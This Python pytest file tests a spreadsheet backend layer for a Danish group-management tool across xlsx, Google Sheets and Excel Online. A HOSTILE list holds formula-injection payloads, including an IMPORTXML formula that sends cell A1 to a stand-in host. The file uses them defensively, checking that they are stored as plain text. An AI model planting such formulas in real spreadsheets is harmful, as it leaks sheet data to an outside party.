"""The workbook guarantees, once, for every backend: a local .xlsx, Google Sheets and Excel
Online (each through its real client code; the last two against their local stand-ins). What
only one backend has (request counts, retries, a transport's own quirks) is tested in
test_xlsx_backend.py, test_google_backend.py and test_excel_backend.py."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests import workbooks
from tests.workbooks import Place
from tovholder.core.errors import WorkbookError
from tovholder.sheets.batch import Batch, NewTab
from tovholder.sheets.parse import text

HOSTILE = ('=IMPORTXML("https://x/?"&A1)', "+1", "@SUM(1)", "-2+3", "=1+1", "'quoted", "0045",
           "TRUE", "2025-03-04", "04-03-2025")
GROUP = {
    "Medlemmer": [["Navn", "E-mail", "Status", "Telefon"],
                  ["Anna Holm", "anna@example.org", "aktiv", "004512345678"],
                  ["Bo Berg", "bo@example.org", "afventer", ""]],
    "Opgaver": [["Nr", "Opgave", "Ansvarlig", "Status"],
                ["1", "Skriv referat", "anna@example.org", "åben"],
                ["2", "Book lokale", "bo@example.org", "åben"],
                ["3", "Send invitation", "anna@example.org", "åben"]],
    "Møder": [["Dato", "Sted"], ["2025-03-04", "Rådhuset, lokale 2"]],
    "Bob's tab": [["Note"], ["hej"]],
    "Svar": [["Medlem", "Runde", "Modtaget"]],
    "Log": [["Tid", "Art", "Nøgle", "Tilstand"]],
}


@pytest.fixture(params=workbooks.KINDS)
def place(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Place]:
    yield from workbooks.place(request.param, tmp_path)


@pytest.fixture
def group(place: Place) -> Place:
    place.seed(GROUP)
    return place


def as_text(snapshot: dict[str, list[list[object]]]) -> dict[str, list[list[str]]]:
    return {tab: [[text(v) for v in row] for row in rows] for tab, rows in snapshot.items()}


def test_read_returns_every_tab_in_order_with_trailing_empty_cells_left_out(group: Place) -> None:
    snap = as_text(group.backend().read())
    assert list(snap) == list(GROUP)
    assert snap["Medlemmer"][1] == ["Anna Holm", "anna@example.org", "aktiv", "004512345678"]
    assert snap["Medlemmer"][2] == ["Bo Berg", "bo@example.org", "afventer"]
    assert snap["Bob's tab"] == [["Note"], ["hej"]]


def test_read_leaves_out_the_yearly_log_archive_tabs(place: Place) -> None:
    place.seed({"Log": [["Tid"]], "Log 2025": [["Tid"], ["gammel"]], "Svar": [["Medlem"]]})
    assert list(place.backend().read()) == ["Log", "Svar"]


def test_read_tabs_reads_only_the_named_tabs(group: Place) -> None:
    snap = as_text(group.backend().read_tabs(["Medlemmer", "Møder", "Findes ikke"]))
    assert snap == {"Medlemmer": workbooks.trimmed(GROUP["Medlemmer"]), "Møder": GROUP["Møder"]}


def test_hostile_text_lands_as_text_and_no_formula_cell_is_created(group: Place) -> None:
    backend = group.backend()
    backend.read()
    batch = Batch()
    batch.append("Svar", HOSTILE)
    batch.append("Log", *[(h, h, h, h) for h in HOSTILE])
    batch.set_cell("Opgaver", 3, 2, HOSTILE[0], key_col=1, key_value="2")
    backend.apply(batch)
    assert group.formulas() == []
    assert group.shown("Svar")[1] == list(HOSTILE)
    assert as_text(backend.read())["Opgaver"][2][1] == HOSTILE[0]
    assert [row[0] for row in group.shown("Log")[1:]] == list(HOSTILE)


def test_append_goes_below_the_last_row_and_keeps_the_order(group: Place) -> None:
    backend = group.backend()
    first, second = Batch(), Batch()
    first.append("Log", ("t1", "form", "a", "sendt"))
    second.append("Log", ("t2", "form", "b", "sendt"), ("t3", "svar", "b"))
    assert backend.apply(first).appended_rows == 1
    assert backend.apply(second).appended_rows == 2
    assert group.shown("Log")[1:] == [["t1", "form", "a", "sendt"], ["t2", "form", "b", "sendt"],
                                      ["t3", "svar", "b"]]


def test_two_appends_to_one_tab_in_one_batch_land_one_below_the_other(group: Place) -> None:
    batch = Batch()
    batch.append("Log", ("t1", "sending"))
    batch.append("Svar", ("anna@example.org", "1"))
    batch.append("Log", ("t1", "sent"))
    assert group.backend().apply(batch).appended_rows == 3
    assert group.shown("Log")[1:] == [["t1", "sending"], ["t1", "sent"]]
    assert group.shown("Svar")[1:] == [["anna@example.org", "1"]]


def test_key_recheck_reports_a_conflict_when_the_chair_sorted_rows_after_the_read(
        group: Place) -> None:
    backend = group.backend()
    header, *rows = as_text(backend.read())["Opgaver"]
    group.set_rows("Opgaver", [header, *reversed(rows)])  # the chair sorts descending
    batch = Batch()
    batch.set_cell("Opgaver", 2, 4, "færdig", key_col=1, key_value="1")  # row 2 was Nr 1
    batch.set_cell("Opgaver", 3, 4, "droppet", key_col=1, key_value="2")  # row 3 is still Nr 2
    result = backend.apply(batch)
    assert [(c.write.key_value, c.found) for c in result.conflicts] == [("1", "3")]
    assert result.cells_written == 1
    assert [r[3] for r in group.shown("Opgaver")[1:]] == ["åben", "droppet", "åben"]


def test_key_match_ignores_case_and_surrounding_spaces(group: Place) -> None:
    backend = group.backend()
    backend.read()
    batch = Batch()
    batch.set_cell("Medlemmer", 2, 3, "udtrådt", key_col=2, key_value=" ANNA@example.org ")
    assert backend.apply(batch).conflicts == []
    assert group.shown("Medlemmer")[1][2] == "udtrådt"


def test_a_tab_deleted_between_read_and_apply_makes_its_cells_conflicts(group: Place) -> None:
    backend = group.backend()
    backend.read()
    group.delete_tab("Opgaver")
    batch = Batch()
    batch.set_cell("Opgaver", 2, 4, "færdig", key_col=1, key_value="1")
    batch.append("Log", ("t", "k", "n", "s"))
    result = backend.apply(batch)
    assert [c.found for c in result.conflicts] == [""]
    assert result.appended_rows == 1
    assert group.shown("Log")[1] == ["t", "k", "n", "s"]


def test_appending_to_a_missing_tab_is_a_workbook_error(group: Place) -> None:
    batch = Batch()
    batch.append("Findes ikke", ("x",))
    with pytest.raises(WorkbookError):
        group.backend().apply(batch)


def test_titles_with_spaces_danish_letters_and_apostrophes_round_trip(place: Place) -> None:
    titles = ["Bob's tab", "Møder & høringer", "Årsplan (x)", "Svar 2025"]
    place.seed({t: [["h"], ["v"]] for t in titles})
    backend = place.backend()
    assert list(backend.read()) == titles
    batch = Batch()
    for t in titles:
        batch.append(t, (t,))
        batch.set_cell(t, 2, 2, "ok", key_col=1, key_value="v")
    assert backend.apply(batch).conflicts == []
    assert all(place.shown(t) == [["h"], ["v", "ok"], [t]] for t in titles)


def test_create_tabs_adds_the_missing_tabs_as_text_and_never_touches_an_existing_one(
        group: Place) -> None:
    backend = group.backend()
    before = group.shown("Medlemmer")
    created = backend.create_tabs([
        NewTab("medlemmer", (("Navn", "E-mail"),)),  # exists: titles compare case-blind
        NewTab("Dagsorden", (("Møde", "Nr", "Punkt", "Status"), ("2025-03-04", "1", "=x", "")),
               dropdowns=((4, ("planlagt", "behandlet")),), column_widths=(12, 4, 40)),
        NewTab("Høringer", (("Titel",),)),
    ])
    assert created == ["Dagsorden", "Høringer"]
    assert group.shown("Medlemmer") == before
    assert group.shown("Dagsorden") == [["Møde", "Nr", "Punkt", "Status"],
                                        ["2025-03-04", "1", "=x"]]
    assert group.formulas() == []
    assert group.titles()[-2:] == ["Dagsorden", "Høringer"]
    assert backend.create_tabs([NewTab("Dagsorden", ())]) == []
    assert "Høringer" in backend.read()


def test_delete_rows_deletes_the_rows_only_when_they_still_hold_what_was_read(
        place: Place) -> None:
    place.seed({"Log": [["Tid", "Art"], ["1", "a"], ["2", "b"], ["3", "c"], ["4", "d"]]})
    backend = place.backend()
    assert not backend.delete_rows("Log", {2: ("1", "a"), 3: ("2", "x")})
    assert len(place.shown("Log")) == 5
    assert backend.delete_rows("Log", {2: ("1", "a"), 3: ("2", "b"), 5: ("4", "d")})
    assert place.shown("Log") == [["Tid", "Art"], ["3", "c"]]
    assert not backend.delete_rows("Findes ikke", {2: ("x",)})
